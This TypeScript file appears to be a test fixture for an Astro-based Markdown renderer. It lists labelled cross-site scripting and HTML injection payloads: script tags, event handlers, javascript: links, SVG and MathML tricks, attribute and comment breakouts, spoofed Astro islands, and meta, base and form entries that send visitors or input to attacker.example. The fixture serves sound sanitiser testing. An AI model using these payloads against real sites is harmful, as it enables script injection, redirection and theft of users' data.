/**
 * Texts that try to run a script, to bring a style, or to become a part of the page around them. Each script sets `attacked`, and each style
 * hides the page.
 */
export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
  ['a script', '<script>attacked=1</script>'],
  ['a script in a paragraph', 'Words <script>attacked=1</script> words'],
  ['a script that holds the names of Astro', '<script>attacked=1 // self.Astro "astro-island"</script>'],
  ['an attribute left open across blocks', 'A <b title="\n\n- one\n\n<i title=\'" onclick="attacked=1" \'>x</i>\n\n">'],
  ['a tag left open across blocks', '<div\n\n# Heading\n\nonmouseover=attacked=1 style=position:fixed;inset:0>x</div>'],
  ['handlers', '<img src=x onerror=attacked=1><body onload=attacked=1><details open ontoggle=attacked=1>'],
  ['a style', '<style>body{display:none}</style>\n\n<link rel=stylesheet href=data:text/css,body{display:none}>'],
  ['a frame', '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe><object data="javascript:attacked=1">'],
  [
    'meta and base',
    '<meta http-equiv=refresh content="0;url=https://attacker.example"><base href=https://attacker.example>',
  ],
  ['a form', '</form><form action=https://attacker.example><input name=p><button formaction=javascript:attacked=1>x'],
  [
    'SVG',
    '<svg onload=attacked=1><script href="data:,attacked=1"/><animate onbegin=attacked=1 attributeName=x /></svg>',
  ],
  [
    'MathML',
    '<math><mtext><table><mglyph><style><img src=x onerror=attacked=1></style></mglyph></table></mtext></math>',
  ],
  [
    'entities',
    '&lt;script&gt;attacked=1&lt;/script&gt; &#60;img src=x onerror=attacked=1&#62; &#x3c;svg/onload=attacked=1>',
  ],
  ['a link to a script', '[x](javascript:attacked=1) [x](&#106;avascript:attacked=1) <javascript:attacked=1>'],
  [
    'a link that leaves its attribute',
    '[x](/"onmouseover="attacked=1) [x](/a "title\\" onclick=attacked=1") ![x](/"onerror=attacked=1//")',
  ],
  ['a remark that is not closed', '<!--><script>attacked=1</script><!--\n\n--!><img src=x onerror=attacked=1>'],
  [
    'a remark, CDATA and an instruction',
    '<![CDATA[><script>attacked=1</script>]]>\n\n<?php <script>attacked=1</script> ?>',
  ],
  [
    'the end of what stands around it',
    '</p></div></main></body></html><script>attacked=1</script><template><plaintext>',
  ],
  [
    'an island',
    '<astro-island component-url="data:text/javascript,attacked=1" client="load" ssr opts="{}"></astro-island>',
  ],
  [
    'the sign of a picture that Astro fills in',
    '__ASTRO_IMAGE_="{&quot;src&quot;:&quot;x&quot;}" `__ASTRO_IMAGE_="x"`',
  ],
  ['what a program of templates would read', '{attacked=1} <%attacked=1%> {{attacked=1}}'],
  [
    'very deep nesting',
    `${'> '.repeat(300)}<script>attacked=1</script>\n\n${'- '.repeat(300)}<img src=x onerror=attacked=1>`,
  ],
  ['very many tags', '<b>'.repeat(2000)],
];
